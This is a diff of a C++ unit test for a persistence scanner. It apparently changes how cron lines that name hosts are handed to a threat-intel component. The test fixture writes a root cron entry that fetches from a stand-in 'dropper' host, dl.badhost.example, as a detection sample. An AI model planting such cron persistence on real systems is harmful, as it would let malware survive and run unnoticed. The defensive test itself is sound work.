@@ -608,23 +608,22 @@ TEST(Persistence, HostsInLine) {
   EXPECT_EQ(HostsInLine(std::string(100, 'a') + ".com").size(), 0u);  // label over 63
 }
 
-TEST(Persistence, LinesNamingAnIntelHostAreFlagged) {
+TEST(Persistence, LinesNamingHostsAreHandedToIntel) {
   fs::path root = TempDir("persist-intel");
   // Nothing here trips the built-in heuristics: only intel can tell the host is a dropper.
   WriteFile(root / "etc/cron.d/update",
             "*/15 * * * * root /usr/bin/fetchcfg dl.badhost.example\n"
             "0 3 * * * root /usr/bin/fetchcfg mirror.good.example\n");
-  PersistenceOptions po{.root = root.string()};
-  po.lookup_host = [](std::string_view h) -> std::optional<std::string> {
-    if (h == "dl.badhost.example") return std::string("test list: miner dropper");
-    return std::nullopt;
-  };
+  // Whether a host is listed is intel's call (the persistence detector's): the scan hands over
+  // each line that names one, with the hosts it names.
   std::vector<std::string> errors;
-  auto hits = ScanPersistence(po, &errors);
-  ASSERT_EQ(hits.size(), 1u);
+  auto hits =
+      ScanPersistence(PersistenceOptions{.root = root.string(), .with_hosts = true}, &errors);
+  ASSERT_EQ(hits.size(), 2u);
   EXPECT_EQ(hits[0].line, 1u);
-  ASSERT_EQ(hits[0].reasons.size(), 1u);
-  EXPECT_EQ(hits[0].reasons[0], "names dl.badhost.example: test list: miner dropper");
+  EXPECT_TRUE(hits[0].reasons.empty());
+  EXPECT_EQ(hits[0].hosts, std::vector<std::string>{"dl.badhost.example"});
+  EXPECT_EQ(hits[1].hosts, std::vector<std::string>{"mirror.good.example"});
   EXPECT_TRUE(ScanPersistence(PersistenceOptions{.root = root.string()}, &errors).empty());
   fs::remove_all(root);
 }
